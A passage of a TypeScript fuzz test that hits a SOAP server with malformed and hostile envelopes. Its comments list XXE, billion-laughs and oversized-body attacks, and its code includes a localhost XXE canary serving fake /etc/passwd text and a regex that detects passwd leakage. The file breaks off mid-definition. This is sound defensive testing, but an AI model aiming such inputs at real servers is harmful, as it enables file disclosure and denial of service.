/**
 * The SOAP face under hostile input, against a real `dispatchkit serve` in a child process (so a
 * crash is an exit we can see, and the server's own RSS is read from /proc/<pid>/status):
 *
 * - ≥ 10,000 envelopes from fast-check generators (fixed seed): valid-looking SOAP 1.1 / 1.2
 *   envelopes built from pieces (any prefixes, the real operations and namespace, the real key in
 *   SessionIDHeader/SessionID, payloads generated from the record schemas) and then broken: wrong
 *   or missing namespaces, missing/duplicated Header and Body, wrong element names, wrong value
 *   types (text in numbers, huge numbers, NaN, INF, bad dates), truncation, random bytes, unbalanced
 *   tags, attributes galore, xsi:nil everywhere, huge text nodes (up to 3 M characters), nesting
 *   past the depth limit, many elements, wrong Content-Type / SOAPAction / action / charset /
 *   encoding. 16 requests in flight over keep-alive connections.
 * - a hand-made corpus: billion laughs, XXE (file and http, a canary server counts any fetch),
 *   parameter entities, 10,000- and 100,000-deep nesting, 50 MB bodies (declared, streamed,
 *   chunked), a body just under the limit with one huge text node, UTF-16 / invalid UTF-8, a
 *   PI-only document, an empty body, two roots, CDATA tricks, 1,000,000 attributes, a 1 MB
 *   element name, 1,000,001 elements, …
 *
 * What is due for every request: HTTP 200 with a SOAP envelope of the request's version, or a
 * SOAP fault in that version's format (1.1: 500 / 401 / 403 / 429 / 415 with faultcode
 * soap:Client; 1.2: 400 / 401 / 403 / 429 with Code soap:Sender), or 413 past the body limit —
 * never a server fault (an internal error), never a connection reset (except the deliberate close
 * after a 413), never a hang (10 s per request), never "root:x:0:0" in an answer.
 *
 * "Never stalls other requests": a worker thread (its own event loop, so the test's own work does
 * not skew it) sends GET /healthz over its own connection every 25 ms throughout, and samples the
 * child's /proc status every 50 ms (VmRSS, VmHWM, and the CPU time of its main thread — the event
 * loop). This machine is shared (2 cores, a long benchmark beside us: load average 5–9), so a
 * probe's wall latency includes time the server was not running at all. A probe's *stall* is
 * therefore min(latency, CPU time the server's main thread used during that probe): the time the
 * event loop was busy while the probe waited. Both figures are reported. Bounds on the stall:
 *   - during the fuzzing: p99 ≤ 500 ms and max ≤ 2,000 ms;
 *   - during each corpus item: max ≤ 2,000 ms, except while a 50 MB body is being received and
 *     for the bulk item (8 maximal bodies at once: linear work queued on one event loop) —
 *     those are measured and reported, not bounded.
 * Where a limit should cut the work short (nesting past the depth limit, a text past the text
 * limit), the item also checks that it does: the request may cost the server's event loop at most
 * 3 × (a comparable document's cost) + 100 ms, both measured in the same run (main-thread CPU).
 * A probe that gets no answer within 60 s is a hang.
 * A request must be answered within 10 s (corpus items: the answer is awaited up to 60 s so that
 * a slow one is measured, then judged against the 10 s bound).
 * Memory: the child's peak VmRSS (and VmHWM) must stay under RSS_BOUND_MB = 2,048 MB: about
 * 260 MB at rest (engine, Monaco dataset, tsx), the server holds a whole body at once (up to
 * the body limit, 16 MiB by default, then its text and element tree), and the bulk item keeps
 * 8 bodies 1 MiB under the limit in flight.
 *
 * DK_SOAP_FUZZ_RUNS=<n> changes the number of fuzzed envelopes (default 10,240).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { Agent, createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from 'node:http';
import { Worker } from 'node:worker_threads';
import { execSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openStore } from '../../src/store/index.js';
import { keyHash, newApiKey } from '../../src/store/hash.js';
import { OPERATIONS as SERVICE_OPERATIONS, operations } from '../../src/service/operations.js';
import { describeType, type AnyField, type Ty } from '../../src/records/schema.js';
import { itemName } from '../../src/server/soap/codec.js';
import { parseXml, type XmlElement } from '../../src/server/soap/xml.js';
import { DEFAULT_BODY_LIMIT } from '../../src/server/http.js';
import { fixtureDatasetFile } from '../helpers/datasets.js';
import { startServer, type ServerProcess } from '../helpers/service.js';

// ------------------------------------------------------------------------------ bounds and sizes

const SEED = 20_260_512;
const ENVELOPES = Number(process.env.DK_SOAP_FUZZ_RUNS ?? 10_240);
const IN_FLIGHT = 16;
const REQUEST_TIMEOUT_MS = 10_000;
const BODY_LIMIT = DEFAULT_BODY_LIMIT; // the server's default (--body-limit)
const MIB = 1 << 20;
const LIMIT_MIB = BODY_LIMIT / MIB;
/** A body 1 MiB under the limit. */
const NEAR_LIMIT = BODY_LIMIT - MIB;
const MAX_TEXT = 1 << 20; // xml.ts default
const MAX_DEPTH = 64; // xml.ts default
const RSS_BOUND_MB = 2048;
const PROBE_EVERY_MS = 25;
const PROBE_P99_MS = 500;
const PROBE_MAX_MS = 2000;

const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const SOAP12 = 'http://www.w3.org/2003/05/soap-envelope';
const NS = 'http://TrackService.TrackRoad.com/';
const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
const PATH = '/TrackService.asmx';
const PASSWD = /root:x:0:0/;

type V = 11 | 12;
const envNsOf = (v: V): string => (v === 11 ? SOAP11 : SOAP12);
/** The version the server answers in, from the Content-Type (as soap.ts decides it), or null: 415. */
function versionOfCt(ct: string | undefined): V | null {
  const c = (ct ?? '').toLowerCase();
  return c.startsWith('application/soap+xml') ? 12 : c.startsWith('text/xml') ? 11 : null;
}

// ------------------------------------------------------------------------------ the child server, probes, RSS

let server: ServerProcess;
let key: string;
let exitInfo: string | null = null;
const logLines: string[] = [];
const tmp = mkdtempSync(join(tmpdir(), 'dk-soap-fuzz-'));
let canary: Server;
let canaryUrl: string;
let canaryHits = 0;

interface Probe { t0: number; ms: number; status: number; error?: string }
interface RssSample { t: number; rssKb: number; hwmKb: number; cpuTicks: number }
const probes: Probe[] = [];
const rss: RssSample[] = [];
let monitor: Worker;

/** The probe loop and the RSS sampler, in a worker thread: its event loop is not the test's. */
const MONITOR_JS = `
const { parentPort, workerData } = require('node:worker_threads');
const http = require('node:http');
const fs = require('node:fs');
const { url, pid, every } = workerData;
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
let stop = false;
parentPort.on('message', (m) => { if (m === 'stop') stop = true; });
const kb = (s, k) => { const m = new RegExp(k + ':\\\\s+(\\\\d+)').exec(s); return m ? Number(m[1]) : 0; };
const sampler = setInterval(() => {
  try {
    const s = fs.readFileSync('/proc/' + pid + '/status', 'utf8');
    // the main thread (tid = pid): utime and stime, fields 14 and 15, in clock ticks
    const st = fs.readFileSync('/proc/' + pid + '/task/' + pid + '/stat', 'utf8');
    const f = st.slice(st.lastIndexOf(')') + 2).split(' ');
    parentPort.postMessage({ kind: 'rss', t: Date.now(), rssKb: kb(s, 'VmRSS'), hwmKb: kb(s, 'VmHWM'), cpuTicks: Number(f[11]) + Number(f[12]) });
  } catch { /* gone */ }
}, 50);
function probe() {
  return new Promise((resolve) => {
    const t0 = Date.now();
    const req = http.get(url + '/healthz', { agent }, (res) => {
      res.resume();
      res.on('end', () => resolve({ t0, ms: Date.now() - t0, status: res.statusCode }));
      res.on('error', (e) => resolve({ t0, ms: Date.now() - t0, status: 0, error: e.message }));
    });
    req.setTimeout(60000, () => req.destroy(new Error('probe timeout (60 s)')));
    req.on('error', (e) => resolve({ t0, ms: Date.now() - t0, status: 0, error: e.message }));
  });
}
(async () => {
  while (!stop) {
    const r = await probe();
    parentPort.postMessage({ kind: 'probe', ...r });
    await new Promise((r) => setTimeout(r, every));
  }
  clearInterval(sampler);
  agent.destroy();
  parentPort.postMessage({ kind: 'done' });
})();
`;

/** Waits until a probe sent after `t` has landed: every probe overlapping what happened before `t` is then recorded. */
async function probesCaughtUp(t: number): Promise<void> {
  const until = Date.now() + 60_000;
  while (!probes.some((p) => p.t0 > t) && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
  await new Promise((r) => setTimeout(r, 60)); // and the CPU samples around them
}
function probesIn(from: number, to: number): Probe[] {
  return probes.filter((p) => p.t0 <= to && p.t0 + p.ms >= from);
}
let msPerTick = 10;
/** CPU time (ms) the server's main thread has used so far, read now. */
function serverCpuMs(): number {
  const st = readFileSync(`/proc/${server.child.pid}/task/${server.child.pid}/stat`, 'utf8');
  const f = st.slice(st.lastIndexOf(')') + 2).split(' ');
  return (Number(f[11]) + Number(f[12])) * msPerTick;
}
/** CPU time (ms) the server's main thread had used by time `t` (interpolated between samples). */
function cpuMsAt(t: number): number {
  if (rss.length === 0) return 0;
  let lo = 0, hi = rss.length - 1;
  if (t <= rss[0].t) return rss[0].cpuTicks * msPerTick;
  if (t >= rss[hi].t) return rss[hi].cpuTicks * msPerTick;
  while (hi - lo > 1) { const mid = (lo + hi) >> 1; if (rss[mid].t <= t) lo = mid; else hi = mid; }
  const a = rss[lo], b = rss[hi];
  return (a.cpuTicks + ((b.cpuTicks - a.cpuTicks) * (t - a.t)) / Math.max(1, b.t - a.t)) * msPerTick;
}
/**
 * A probe's stall: its latency, less the time the server's main thread was not running at all
 * (descheduled by the shared machine's other load): min(latency, main-thread CPU time during it).
 */
function stallOf(p: Probe): number {
  return Math.round(Math.min(p.ms, cpuMsAt(p.t0 + p.ms) - cpuMsAt(p.t0)));
}
function percentile(xs: number[], q: number): number {
  if (xs.length === 0) return 0;
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.ceil(q * s.length) - 1)];
}
function peakRssMb(from = 0, to = Infinity): number {
  return Math.round(Math.max(0, ...rss.filter((r) => r.t >= from && r.t <= to).map((r) => r.rssKb)) / 1024);
}
function alive(): boolean {
  return exitInfo === null && server.child.exitCode === null && server.child.signalCode === null;
}

beforeAll(async () => {
  const data = await fixtureDatasetFile('monaco');
  const db = `sqlite:${join(tmp, 'fuzz.db')}`;
  const store = await openStore(db);
  key = newApiKey();
  await store.createAccount({ name: 'fuzz', keyHash: keyHash(key), passwordHash: null, credit: 1_000_000_000, now: Date.now() });
  await store.close();
  // XXE canary: any fetch the server makes for an external entity lands here
  canary = createServer((_req, res) => { canaryHits++; res.end('root:x:0:0:root:/root:/bin/bash\n'); });
  await new Promise<void>((r) => canary.listen(0, '127.0.0.1', r));
  canaryUrl = `http://127.0.0.1:${(canary.address() as { port: number }).port}`;
  try { msPerTick = 1000 / Number(execSync('getconf CLK_TCK', { encoding: 'utf8' }).trim()); } catch { /* 100 Hz */ }
  server = await startServer(['--data', data, '--db', db, '--rate-limit', '0', '--threads', '1', '--dispatch-time-limit', '1', '--timeout', '10']);
  server.child.stdout!.on('data', (d: Buffer) => { for (const l of d.toString().split('\n')) if (l.trim()) logLines.push(l); });
  server.child.once('exit', (code, signal) => { exitInfo = `exited with code ${code} signal ${signal}`; });
  monitor = new Worker(MONITOR_JS, { eval: true, workerData: { url: server.url, pid: server.child.pid, every: PROBE_EVERY_MS } });
  monitor.on('message', (m: { kind: string } & Probe & RssSample) => {
    if (m.kind === 'probe') probes.push({ t0: m.t0, ms: m.ms, status: m.status, ...(m.error ? { error: m.error } : {}) });
    else if (m.kind === 'rss') rss.push({ t: m.t, rssKb: m.rssKb, hwmKb: m.hwmKb, cpuTicks: m.cpuTicks });
  });
}, 300_000);

afterAll(async () => {
  if (monitor) {
    const done = new Promise<void>((r) => monitor.on('message', (m: { kind: string }) => { if (m.kind === 'done') r(); }));
    monitor.postMessage('stop');
    await Promise.race([done, new Promise((r) => setTimeout(r, 20_000))]);
    await monitor.terminate();
  }
  if (server && alive()) await server.stop();
  canary?.close();
  rmSync(tmp, { recursive: true, force: true });
}, 120_000);

// ------------------------------------------------------------------------------ HTTP client

interface Res { status: number; headers: IncomingHttpHeaders; body: string; ms: number; error?: string; bytesSent: number }

interface SendOptions {
  headers: Record<string, string>;
  body?: Buffer;
  agent?: Agent | false;
  timeoutMs?: number;
  /**
   * normal: the whole body with its Content-Length. declared-wait: announce `declared` bytes and
   * send nothing until the answer. stream: write `declared` bytes of `body` repeated, in 1 MiB
   * pieces (Content-Length, or chunked when `chunked`), stopping at the answer. abort: announce
   * `declared`, send `body`, wait `abortAfterMs`, destroy the socket.
   */
  mode?: 'normal' | 'declared-wait' | 'stream' | 'abort';
  declared?: number;
  chunked?: boolean;
  abortAfterMs?: number;
  /** stream: send the headers, wait this long for an early answer, then the body. */
  headStartMs?: number;
}

const fuzzAgent = new Agent({ keepAlive: true, maxSockets: IN_FLIGHT });

function send(o: SendOptions): Promise<Res> {
  const mode = o.mode ?? 'normal';
  return new Promise((resolve) => {
    const t0 = Date.now();
    let done = false;
    let bytesSent = 0;
    let got: Res | null = null;
    const finish = (r: Omit<Res, 'ms' | 'bytesSent'>): void => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      resolve({ ...r, ms: Date.now() - t0, bytesSent });
    };
    const headers: Record<string, string> = { ...o.headers };
    if (mode === 'normal') headers['Content-Length'] = String(o.body?.length ?? 0);
    else if (!o.chunked) headers['Content-Length'] = String(o.declared ?? o.body?.length ?? 0);
    const req = httpRequest(`${server.url}${PATH}`, { method: 'POST', headers, agent: o.agent ?? false });
    const timer = setTimeout(() => {
      req.destroy();
      finish({ status: 0, headers: {}, body: '', error: `no answer within ${o.timeoutMs ?? REQUEST_TIMEOUT_MS} ms (stall)` });
    }, o.timeoutMs ?? REQUEST_TIMEOUT_MS);
    req.on('response', (res) => {
      const chunks: Buffer[] = [];
      let size = 0;
      res.on('data', (d: Buffer) => { size += d.length; if (size <= 8 << 20) chunks.push(d); });
      res.on('end', () => {
        got = { status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8'), ms: 0, bytesSent };
        finish(got);
        if (mode !== 'normal') req.destroy();
      });
      res.on('error', (e) => finish({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8'), error: `response: ${e.message}` }));
    });
    req.on('error', (e: Error & { code?: string }) => {
      // an error after the whole answer arrived (the server closing after a 413) is no failure
      if (got) return;
      finish({ status: 0, headers: {}, body: '', error: `${e.code ?? ''} ${e.message}`.trim() });
    });
    if (mode === 'normal') { bytesSent = o.body?.length ?? 0; req.end(o.body); return; }
    if (mode === 'declared-wait') { req.flushHeaders(); return; }
    if (mode === 'abort') {
      req.write(o.body!, () => { bytesSent = o.body!.length; });
      setTimeout(() => { req.destroy(); finish({ status: -1, headers: {}, body: '', error: 'aborted by the client (as planned)' }); }, o.abortAfterMs ?? 3000);
      return;
    }
    // stream
    const total = o.declared!;
    const piece = o.body!;
    const pump = (): void => {
      while (!done && !req.destroyed && bytesSent < total) {
        const n = Math.min(piece.length, total - bytesSent);
        bytesSent += n;
        if (!req.write(n === piece.length ? piece : piece.subarray(0, n))) { req.once('drain', pump); return; }
      }
      if (bytesSent >= total && !req.writableEnded && !req.destroyed) req.end();
    };
    if (o.headStartMs) { req.flushHeaders(); setTimeout(pump, o.headStartMs); } else pump();
  });
}

// ------------------------------------------------------------------------------ judging an answer

interface Judged { outcome: string; problems: string[] }

const kid = (el: XmlElement | undefined, uri: string, local: string): XmlElement | undefined => el?.children.find((c) => c.uri === uri && c.local === local);

/**
 * What the answer must be for a request under Content-Type `ct`: `expect` narrows it (fault: not a
 * 200; 200: a 200 envelope; 413; any: 200 or fault).
 */
function judge(ct: string | undefined, r: Res, expect: 'any' | 'fault' | '200' | '413', op?: string): Judged {
  const problems: string[] = [];
  if (r.error) return { outcome: r.error.includes('stall') ? 'stall' : 'reset', problems: [r.error] };
  if (PASSWD.test(r.body)) problems.push('the answer carries /etc/passwd content');
  const v = versionOfCt(ct);
  if (r.status === 413) {
    if (expect !== '413') problems.push('413 for a body under the limit');
    return { outcome: '413', problems };
  }
  if (expect === '413') problems.push(`expected 413, got ${r.status}`);
  if (v === null) {
    // not a SOAP Content-Type: 415 with a SOAP 1.1 fault
    if (r.status !== 415) problems.push(`non-SOAP Content-Type ${JSON.stringify(ct)}: expected 415, got ${r.status}`);
    checkFault(11, r, problems);
    return { outcome: '415', problems };
  }
  const wantCt = v === 11 ? 'text/xml' : 'application/soap+xml';
  if (!String(r.headers['content-type'] ?? '').startsWith(wantCt)) problems.push(`Content-Type ${r.headers['content-type']} for a SOAP ${v === 11 ? '1.1' : '1.2'} request`);
  if (r.status === 200) {
    if (expect === 'fault') problems.push('200 where a fault is due');
    let env: XmlElement | null = null;
    try { env = parseXml(r.body, { maxDepth: 1000, maxText: 64 << 20 }); } catch (e) { problems.push(`200 body is not XML: ${(e as Error).message}`); }
    if (env) {
      if (env.uri !== envNsOf(v) || env.local !== 'Envelope') problems.push(`200 root {${env.uri}}${env.local}`);
      const body = kid(env, envNsOf(v), 'Body');
      const first = body?.children[0];
      if (!first) problems.push('200 envelope without a Body element');
      else if (first.local === 'Fault') problems.push('a Fault under status 200');
      else if (first.uri !== NS || (op && first.local !== `${op}Response`)) problems.push(`200 answers {${first.uri}}${first.local}${op ? ` to ${op}` : ''}`);
    }
    const status = /<Status>(\w+)<\/Status>/.exec(r.body)?.[1];
    return { outcome: `200 ${status ?? (op === 'Logout' ? 'Logout' : '?')}`, problems };
  }
  if (expect === '200') problems.push(`expected 200, got ${r.status}: ${r.body.slice(0, 300)}`);
  const code = checkFault(v, r, problems);
  const allowed = v === 11 ? [500, 401, 403, 429] : [400, 401, 403, 429];
  if (!allowed.includes(r.status)) problems.push(`a SOAP ${v === 11 ? '1.1' : '1.2'} fault with status ${r.status}`);
  return { outcome: `${r.status} ${code}`, problems };
}

/** Checks a fault in version `v`'s format, a client one (a server fault is an internal error: a bug); returns its code. */
function checkFault(v: V, r: Res, problems: string[]): string {
  let env: XmlElement;
  try { env = parseXml(r.body, { maxDepth: 1000, maxText: 64 << 20 }); } catch (e) {
    problems.push(`status ${r.status}: the body is not XML (${(e as Error).message}): ${r.body.slice(0, 200)}`);
    return '?';
  }
  const ens = envNsOf(v);
  const fault = kid(kid(env, ens, 'Body'), ens, 'Fault');
  if (env.uri !== ens || !fault) {
    problems.push(`status ${r.status}: not a SOAP ${v === 11 ? '1.1' : '1.2'} fault: ${r.body.slice(0, 200)}`);
    return '?';
  }
  const code = v === 11 ? kid(fault, '', 'faultcode')?.text : kid(kid(fault, ens, 'Code'), ens, 'Value')?.text;
  const reason = v === 11 ? kid(fault, '', 'faultstring')?.text : kid(kid(fault, ens, 'Reason'), ens, 'Text')?.text;
  if (!code || reason === undefined) problems.push(`a fault without code or reason: ${r.body.slice(0, 300)}`);
  const client = v === 11 ? 'soap:Client' : 'soap:Sender';
  if (code !== client) problems.push(`a server fault (${code}, status ${r.status}): ${reason}`);
  return (code ?? '?').replace(/^soap:/, '');
}

// ------------------------------------------------------------------------------ generators

interface XNode { name: string; text?: string; cdata?: boolean; kids?: XNode[]; nil?: boolean }

const OPS = operations().filter((o) => o.faces.soap);
type OpName = keyof typeof SERVICE_OPERATIONS;

const WEIRD_INT = ['', ' ', ' 42 ', '1.5', '1e3', 'abc', '99999999999999999999999', '-2147483649', '2147483648', 'NaN', '0x1F', '+7', '-0', '١٢', '1,000', 'null', 'true', '--1'];
const WEIRD_DOUBLE = ['NaN', 'INF', '-INF', 'Infinity', '1e400', '-1e400', '', 'abc', '1,5', '4.9e-324', '0x10', ' 43.73 ', '43.73.1', '.', '-', '1e', '1' + '0'.repeat(400)];
const WEIRD_BOOL = ['true', 'false', '1', '0', 'yes', 'TRUE', '', ' true ', '2', 'nil'];
const WEIRD_DATE = ['2026-12-01T09:00:00', '2026-12-01T09:00:00Z', '2026-12-01T09:00:00+14:59', '2026-12-01T09:00:00+15:00', '2026-13-45T99:99:99', '/Date(1234567890000)/', '/Date(99999999999999999)/', '0001-01-01T00:00:00', '9999-12-31T23:59:59', '', 'yesterday', '2026-02-30', '2026-12-01'];
const WEIRD_STRING = ['Monaco', 'Place du Casino, Monaco', 'demo', '<x>', '&amp;', ']]>', 'a\u0000b', '\uFFFE', '\uD800', 'é日本\u{1F600}', '   ', '\r\n\t', 'x'.repeat(300)];

const hugeDigits = fc.integer({ min: 20, max: 3000 }).map((n) => '9'.repeat(n));
const intArb = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -5, max: 100 }).map(String) },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 3, arbitrary: fc.constantFrom(...WEIRD_INT) },
  { weight: 1, arbitrary: fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String) },
  { weight: 1, arbitrary: hugeDigits },
);
const doubleArb = fc.oneof(
  { weight: 3, arbitrary: fc.double().map(String) },
  { weight: 3, arbitrary: fc.constantFrom(...WEIRD_DOUBLE) },
  { weight: 1, arbitrary: hugeDigits },
);
const latArb = fc.oneof({ weight: 3, arbitrary: fc.double({ min: 43.725, max: 43.75, noNaN: true }).map((x) => x.toFixed(5)) }, { weight: 1, arbitrary: doubleArb });
const lonArb = fc.oneof({ weight: 3, arbitrary: fc.double({ min: 7.41, max: 7.44, noNaN: true }).map((x) => x.toFixed(5)) }, { weight: 1, arbitrary: doubleArb });
const stringArb = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.constantFrom(...WEIRD_STRING) },
  { weight: 1, arbitrary: fc.integer({ min: 1000, max: 5000 }).map((n) => 'long '.repeat(n / 5)) },
);

/** Element names a schema field may be spelled with: mostly right, sometimes not. */
const nameArb = (name: string): fc.Arbitrary<string> =>
  fc.oneof({ weight: 20, arbitrary: fc.constant(name) }, { weight: 1, arbitrary: fc.constant(name.toLowerCase()) }, { weight: 1, arbitrary: fc.constant(`${name}s`) }, { weight: 1, arbitrary: fc.constant(name.toUpperCase()) });

const cache = new Map<string, fc.Arbitrary<XNode>>();

/** An element for a value of type `ty` named `name`: valid-looking, with wrong types and names now and then. */
function valueArb(ty: Ty<any, any>, name: string, depth: number): fc.Arbitrary<XNode> {
  const id = `${ty.label}|${name}|${depth}`;
  const hit = cache.get(id);
  if (hit) return hit;
  const d = describeType(ty);
  let arb: fc.Arbitrary<XNode>;
  const leaf = (a: fc.Arbitrary<string>): fc.Arbitrary<XNode> =>
    fc.tuple(nameArb(name), a, fc.boolean()).map(([n, text, cdata]) => ({ name: n, text, cdata: cdata && !/[\]>]/.test(text) }));
  if (d.record) {
    if (depth > 6) arb = fc.constant({ name, kids: [] });
    else {
      const fields = Object.entries(d.record.fields as Record<string, AnyField>);
      const rec = fc.record(Object.fromEntries(fields.map(([k, f]) => [k, valueArb(f.ty, k, depth + 1)])), { requiredKeys: [] });
      arb = fc.tuple(nameArb(name), rec, fc.boolean()).map(([n, r, rev]) => {
        const kids = Object.values(r) as XNode[];
        return { name: n, kids: rev ? kids.reverse() : kids };
      });
    }
  } else if (d.list) {
    const item = valueArb(d.list, itemName(d.list), depth + 1);
    const itemOrNil = fc.oneof({ weight: 8, arbitrary: item }, { weight: 1, arbitrary: fc.constant<XNode>({ name: itemName(d.list), nil: true }) });
    arb = fc.tuple(nameArb(name), fc.array(itemOrNil, { maxLength: depth > 4 ? 1 : 3 })).map(([n, kids]) => ({ name: n, kids }));
  } else if (d.enumDef) {
    const e = d.enumDef;
    arb = leaf(fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...e.acceptedNames) },
      { weight: 1, arbitrary: fc.constantFrom(...e.names.map((x) => x.toLowerCase())) },
      { weight: 1, arbitrary: fc.integer({ min: -2, max: 20 }).map(String) },
      { weight: 1, arbitrary: fc.constantFrom('', 'Bogus', ' Mile ', '1.0') },
    ));
  } else {
    switch (d.xsd) {
      case 'int': case 'long': case 'unsignedByte': arb = leaf(intArb); break;
      case 'double': arb = leaf(name === 'Latitude' ? latArb : name === 'Longitude' ? lonArb : doubleArb); break;
      case 'boolean': arb = leaf(fc.constantFrom(...WEIRD_BOOL)); break;
      case 'dateTime': arb = leaf(fc.constantFrom(...WEIRD_DATE)); break;
      default: arb = leaf(stringArb);
    }
  }
  // now and then: nil, or a value of another shape (text where a record is due, a record where text is)
  arb = fc.oneof(
    { weight: 12, arbitrary: arb },
    { weight: 1, arbitrary: fc.constant<XNode>({ name, nil: true }) },
    { weight: 1, arbitrary: fc.oneof(stringArb, intArb).map((text): XNode => ({ name, text })) },
    { weight: 1, arbitrary: fc.constant<XNode>({ name, kids: [{ name: 'Latitude', text: '43.73' }, { name, text: 'x' }] }) },
  );
  cache.set(id, arb);
  return arb;
}

/** The children of an operation's element. */
function payloadArb(op: (typeof OPS)[number]): fc.Arbitrary<XNode[]> {
  if (op.name === 'Login') {
    return fc.record({ userName: fc.oneof(fc.constantFrom('fuzz', 'demo', ''), stringArb), password: stringArb }, { requiredKeys: [] })
      .map((r) => Object.entries(r).map(([name, text]) => ({ name, text })));
  }
  if (op.spec === null) return fc.constantFrom<XNode[]>([], [{ name: 'junk', text: '1' }], [{ name: 'specification', kids: [] }]);
  return fc.oneof(
    { weight: 10, arbitrary: valueArb(op.spec, 'specification', 1).map((n) => [n]) },
    { weight: 1, arbitrary: fc.constant<XNode[]>([]) },
    { weight: 1, arbitrary: valueArb(op.spec, 'Specification', 1).map((n) => [n]) },
    { weight: 1, arbitrary: fc.tuple(valueArb(op.spec, 'specification', 1), valueArb(op.spec, 'specification', 1)).map(([a, b]) => [a, b]) },
  );
}

const OP_WEIGHTS: Partial<Record<OpName, number>> = {
  CalculateDistance: 4, Geocode: 3, CreditRemaining: 3, GetRouteList: 1, GetRoute: 1, GetTrack: 1, TrackPoints: 1,
  CalculateRoute: 2, CalculateRoutes: 1, Dispatch: 1, Login: 1, Logout: 1,
};

type Struct =
  | { kind: 'deep'; depth: number; where: 'op' | 'header' | 'body' }
  | { kind: 'many'; n: number; where: 'op' | 'header' | 'body' }
  | { kind: 'huge'; n: number; where: 'op' | 'header' | 'body' };
type ByteMut = { kind: 'insert'; at: number; bytes: number[] } | { kind: 'delete'; at: number; len: number } | { kind: 'flip'; at: number; xor: number };

interface Model {
  v: V;
  envPrefix: string;
  envNs: 'right' | 'other' | 'wrong' | 'none';
  envLocal: string;
  decl: 'none' | 'utf8' | 'utf16' | 'v11' | 'leadingWs';
  header: 'ok' | 'none' | 'dup' | 'dupWrongFirst' | 'wrongNs' | 'afterBody' | 'empty' | 'noSessionId' | 'mustUnderstand';
  key: 'real' | 'cdata' | 'charref' | 'split' | 'padded' | 'wrong' | 'empty' | 'nil' | 'huge' | 'upper';
  body: 'one' | 'none' | 'empty' | 'two' | 'textOnly' | 'lower' | 'junkFirst';
  op: OpName;
  payload: XNode[];
  opName: 'right' | 'lower' | 'unknown';
  opNs: 'right' | 'none' | 'wrong' | 'case';
  svcPrefix: string;
  attrs: number;
  nil: boolean;
  comments: boolean;
  struct: Struct | null;
  closeMut: null | { kind: 'drop' | 'extra'; which: number };
  bytes: ByteMut[];
  truncate: number | null;
  ct: 'right' | 'bare' | 'upper' | 'swap' | 'xml' | 'plain' | 'json' | 'none' | 'multipart' | 'xmlSuffix';
  action: 'none' | 'empty' | 'right' | 'unquoted' | 'wrong' | 'otherOp';
  enc: 'utf8' | 'bom' | 'utf16' | 'utf16cs' | 'utf16be' | 'latin1';
}

const w = <T>(weight: number, arbitrary: fc.Arbitrary<T>): fc.WeightedArbitrary<T> => ({ weight, arbitrary });
const pick = <T>(...xs: [number, T][]): fc.Arbitrary<T> => fc.oneof(...xs.map(([n, x]) => w(n, fc.constant(x))));

const where = fc.constantFrom('op' as const, 'op' as const, 'header' as const, 'body' as const);
const structArb: fc.Arbitrary<Struct | null> = fc.oneof(
  w(88, fc.constant(null)),
  w(5, fc.record({ kind: fc.constant('deep' as const), depth: fc.oneof(fc.integer({ min: 1, max: 58 }), fc.integer({ min: 59, max: 70 }), fc.integer({ min: 71, max: 3000 })), where })),
  w(3, fc.record({ kind: fc.constant('many' as const), n: fc.integer({ min: 1000, max: 20_000 }), where })),
  w(2, fc.record({ kind: fc.constant('huge' as const), n: fc.oneof(fc.integer({ min: MAX_TEXT - 16, max: MAX_TEXT + 16 }), fc.integer({ min: 100_000, max: 3_000_000 })), where })),
);
const byteMutArb: fc.Arbitrary<ByteMut> = fc.oneof(
  fc.record({ kind: fc.constant('insert' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), bytes: fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 16 }) }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), len: fc.integer({ min: 1, max: 32 }) }),
  fc.record({ kind: fc.constant('flip' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), xor: fc.integer({ min: 1, max: 255 }) }),
);

const opAndPayload = fc.oneof(...OPS.map((op) => w(OP_WEIGHTS[op.name as OpName] ?? 1, payloadArb(op).map((payload) => ({ op: op.name as OpName, payload })))));

const modelArb: fc.Arbitrary<Model> = fc.record({
  v: fc.constantFrom<V>(11, 12),
  envPrefix: fc.constantFrom('soap', 'soapenv', 's', 'SOAP-ENV', 'env', 'e1', ''),
  envNs: pick<Model['envNs']>([30, 'right'], [1, 'other'], [1, 'wrong'], [1, 'none']),
  envLocal: pick<string>([40, 'Envelope'], [1, 'envelope'], [1, 'Envelop']),
  decl: pick<Model['decl']>([4, 'none'], [4, 'utf8'], [1, 'utf16'], [1, 'v11'], [1, 'leadingWs']),
  header: pick<Model['header']>([16, 'ok'], [2, 'none'], [1, 'dup'], [1, 'dupWrongFirst'], [1, 'wrongNs'], [1, 'afterBody'], [1, 'empty'], [1, 'noSessionId'], [1, 'mustUnderstand']),
  key: pick<Model['key']>([16, 'real'], [1, 'cdata'], [1, 'charref'], [1, 'split'], [1, 'padded'], [1, 'wrong'], [1, 'empty'], [1, 'nil'], [1, 'huge'], [1, 'upper']),
  body: pick<Model['body']>([24, 'one'], [1, 'none'], [1, 'empty'], [1, 'two'], [1, 'textOnly'], [1, 'lower'], [1, 'junkFirst']),
  opPayload: opAndPayload,
  opName: pick<Model['opName']>([30, 'right'], [1, 'lower'], [1, 'unknown']),
